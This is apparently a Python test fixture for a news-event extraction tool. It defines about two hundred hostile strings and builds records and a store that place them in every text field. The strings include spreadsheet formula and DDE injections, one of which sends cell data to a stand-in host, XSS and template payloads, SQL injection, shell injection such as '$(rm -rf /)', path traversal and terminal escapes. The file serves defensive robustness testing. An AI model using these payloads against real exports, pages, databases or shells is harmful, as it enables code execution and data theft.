"""Two hundred strings that break tables, pages and terminals, and records that have them in every field of text.

For all exports: `HOSTILE` is the table, `HostileRecord` what a writer reads from, one event a string, `stored` the same through a store.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date
from pathlib import Path

from runut.records import Article, Declared, Document, Event, EventMention, Figure, Party, Place, Published, Quote, Span
from runut.store import Outcome, Store
from runut.store.handover import Report, Source, Statement, Told

FORMULAS = [
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1;1)",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://jahat.example";"klik")',
        '=IMPORTXML("x")',
    ),
    *("+cmd|' /C notepad'!'A1'", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', "=1/0"),
    *(
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "=",
        "+",
        "-",
        "@",
        "'=1+1",
        "''=1+1",
        "'",
        "''",
        "'kata'",
        "-5",
        "+62812",
        "=A1:A9",
    ),
    *("＝1+1", "＋1", "－1", "＠x", '=WEBSERVICE("http://jahat.example/?"&A1)', "=-1", "-", "--", '=""', "+\t1", "@\n1", "=\0"),
]
SEPARATORS = [
    *(
        ",",
        ";",
        "\t",
        "|",
        "\n",
        "\r",
        "\r\n",
        "\n\r",
        "a,b",
        "a;b",
        "a\tb",
        "a\nb",
        "a\rb",
        "a\r\nb",
        ",,,",
        ";;;",
        "\t\t\t",
        "\n\n",
    ),
    *(
        "a\vb",
        "a\fb",
        "a\x1cb",
        "a\x1eb",
        "a\x85b",
        "a\u2028b",
        "a\u2029b",
        "baris satu\nbaris dua\n",
        "\\t",
        "\\n",
        "\\\\",
        "\\",
        "a\\",
    ),
]
QUOTING = [
    *(
        '"',
        '""',
        '"""',
        '"a"',
        'a"b',
        '"a,b"',
        '"a\nb"',
        "'a'",
        "“a”",
        "‘a’",
        "«a»",
        "`a`",
        '\\"',
        '",',
        ',"',
        '"\t"',
        '"=1+1"',
        "\"'",
    ),
    *(
        "{",
        "}",
        "[",
        "]",
        "{}",
        "[]",
        "null",
        "true",
        "false",
        "NaN",
        "nan",
        "Infinity",
        "None",
        "NA",
        "N/A",
        "#N/A",
        "#REF!",
        "TRUE",
    ),
]
NUMBERS = [
    "0",
    "007",
    "1e5",
    "1E400",
    "0x1F",
    "1,5",
    "1.000.000",
    "12/03/2024",
    "2024-03-12",
    "12:30",
    "1-2",
    "MARCH1",
    "SEPT2",
    "00:00",
]
MARKUP = [
    *(
        "</script>",
        "<script>alert(1)</script>",
        "<!--",
        "-->",
        "]]>",
        "<![CDATA[",
        "&amp;",
        "&#0;",
        "&lt;",
        "<b>",
        "<img src=x onerror=alert(1)>",
    ),
    *(
        "</style>",
        "</title>",
        "<?xml version='1.0'?>",
        "<!DOCTYPE x [<!ENTITY a 'b'>]>",
        "javascript:alert(1)",
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
    ),
    *(
        "<svg/onload=alert(1)>",
        '" onmouseover="alert(1)',
        "data:text/html,<script>alert(1)</script>",
        "%00",
        "%0d%0aSet-Cookie: a=b",
    ),
]
QUERIES = [
    *(
        "'; DROP TABLE events; --",
        '" OR 1=1 --',
        "1; SELECT * FROM mentions",
        "%",
        "_",
        "*",
        "?",
        "' UNION SELECT 1 --",
        "/* */",
        "--",
    ),
]
SHELL = [
    "$(rm -rf /)",
    "`id`",
    "; ls",
    "| ls",
    "&& ls",
    "../../etc/passwd",
    "C:\\CON",
    "~",
    "file:///etc/passwd",
    "\\\\tuan\\bagi",
]
TERMINAL = [
    *(
        "\x1b[31mmerah\x1b[0m",
        "\x1b]0;judul\x07",
        "\x1b[2J",
        "\x07",
        "\x08",
        "\x7f",
        "\x9b31m",
        "\x1b[6n",
        "\x1bc",
        "a\rb\x1b[A",
    ),
]
UNICODE = [
    *(
        "\u202eterbalik",
        "\u202d",
        "\u2066a\u2069",
        "\u200f",
        "\u200e",
        "مرحبا",
        "עברית",
        "שלום dunia",
        "a\u0301",
        "a" + "\u0301" * 50,
    ),
    *(
        "🇮🇩",
        "👩‍👩‍👧‍👦",
        "👍🏽",
        "😀",
        "\U0010ffff",
        "\ufffe",
        "\ufeff",
        "\ufeffkata",
        "\u200b",
        "\u200d",
        "\u00a0",
        "\u3000",
        "ﬁ",
        "İ",
        "ẞ",
        "ſ",
    ),
    *("日本語", "한국어", "ไทย", "ꦗꦮ", "Ω", "½", "𝒜", "\ufffd", "é", "ñandú", "Ḽơᶉëᶆ ȋṕšᶙṁ", "zalgo̵̱"),
]
BROKEN = ["\0", "a\0b", "\0\0", "\ud800", "\udfff", "a\ud83d", "\ude00b", "\udcff.html", "\ud800=1", "kata\0=1+1"]
LONG = ["a" * 10_000, "kata " * 2_000, "\n" * 500, "=" * 1_000, '"' * 1_001, "😀" * 2_500]
PLAIN = ["Rusia", "Presiden Vladimir Putin", "Kota Baru", " kata ", "kata kata.", "“Kami menolak,” ujar dia."]

HOSTILE = tuple(
    dict.fromkeys([
        *FORMULAS, *SEPARATORS, *QUOTING, *NUMBERS, *MARKUP, *QUERIES, *SHELL, *TERMINAL, *UNICODE, *BROKEN, *LONG, *PLAIN,
    ])
)  # fmt: skip
DAY = date(2025, 6, 13)


class HostileRecord:
    """What a writer reads from: for each string an event with a mention, a document and a quote whose every text it is."""

    def __init__(self, strings: tuple[str, ...] = HOSTILE, *, with_text: bool = False) -> None:
        self.strings, self._with_text = strings, with_text

    def events(self) -> Iterator[Told]:
        for n, text in enumerate(self.strings):
            yield Told(
                event=event(n, text), reports=(Report(mention=mention(n, text), source=self._source(n, text), judged=None),)
            )

    def sources(self) -> Iterator[Source]:
        for n, text in enumerate(self.strings):
            yield self._source(n, text)

    def quotes(self) -> Iterator[Statement]:
        for n, text in enumerate(self.strings):
            yield Statement(quote=quote(n, text), source=self._source(n, text))

    def _source(self, n: int, text: str) -> Source:
        return Source(
            id=f"d-{n:016x}", source_id=text, url=text, outlet=text, title=text, authors=(text, text),
            published=Published(start=DAY, end=DAY, precision="day", basis="meta", text=text), language="id", status="ok",
            family=f"d-{n:016x}", agencies=(text,), origin=None, version="0", length=len(text), text=text if self._with_text else None,
        )  # fmt: skip


def span(text: str) -> Span:
    return Span(start=0, end=len(text), text=text)


def party(text: str) -> Party:
    return Party(words=span(text), name=text, entity="country.RUS", country="RUS", sector="GOV", office=text)


def place(text: str) -> Place:
    return Place(text=text, name=text, country="IDN", lat=-6.2, lon=106.8, precision="city")


def mention(n: int, text: str) -> EventMention:
    return EventMention(
        document=f"d-{n:016x}", type="ACCUSE", mode="disapprove", contexts=("diplomatic",), actors=(party(text),),
        recipients=(party(text),), start=DAY, end=DAY, precision="day", date_basis="expression", place=place(text),
        said_by=(party(text),), via=(text,), hedge=text, stance="asserts", quote=quote(n, text).id,
        figures=(Figure(kind="killed", low=3, high=None, unit=None, text=text),), evidence=span(text), trigger=span(text),
        rule="id.test", confidence=0.5,
    )  # fmt: skip


def quote(n: int, text: str) -> Quote:
    return Quote(
        document=f"d-{n:016x}", kind="direct", content=(span(text),), cue=span(text), speaker=party(text), role=span(text), via=(text,),
        about=("country.RUS",), hedge=text, rule="id.test",
    )  # fmt: skip


def event(n: int, text: str) -> Event:
    return Event(
        id=f"e-{n:016x}", type="ACCUSE", mode="disapprove", actors=(party(text),), recipients=(party(text),), symmetric=False,
        status="actual", background=False, start=DAY, end=DAY, precision="day", place=place(text),
        figures=(Figure(kind="killed", low=3, high=None, unit=None, text=text),), mentions=(mention(n, text).id,),
        documents=(f"d-{n:016x}",), outlets=(text,), origins=1,
    )  # fmt: skip


def stored(path: Path, strings: tuple[str, ...] = HOSTILE) -> Path:
    """A store of articles whose text, title and outlet are the strings, with a mention and a quote of all of it each; those
    that no store takes are left out: half of a pair, and words that are none."""
    from runut.resolving import resolve_changes

    with Store.open(path, create=True) as store:
        made = [put for n, text in enumerate(strings) if (put := _outcome(n, text))]
        store.expect([doc for doc, _ in made])
        store.put(made)
        resolve_changes(store)
    return path


def _outcome(n: int, text: str) -> tuple[Document, Outcome] | None:
    if not text.strip() or any("\ud800" <= c <= "\udfff" for c in text):
        return None
    doc = Document(path=f"{n}.txt", offset=0, media_type="text/plain", body=text.encode(), declared=Declared(id=f"bahaya-{n}"))
    article = Article(
        id=doc.id, text=text, title=text, outlet=text, authors=(text,), dateline=None, url=text, language="id", credits=(), furniture=(),
        published=Published(start=DAY, end=DAY, precision="day", basis="meta", text=text),
    )  # fmt: skip
    side = Party(words=span(text), name=text, country="RUS")
    told = EventMention(
        document=doc.id, type="ACCUSE", mode=None, actors=(side,), recipients=(side,), start=DAY, end=DAY, precision="day",
        evidence=span(text), trigger=span(text), rule="id.test", confidence=0.5, said_by=(side,),
    )  # fmt: skip
    said = Quote(document=doc.id, kind="direct", content=(span(text),), cue=None, speaker=side, rule="id.test")
    return doc, Outcome(article=article, mentions=(told,), quotes=(said,))
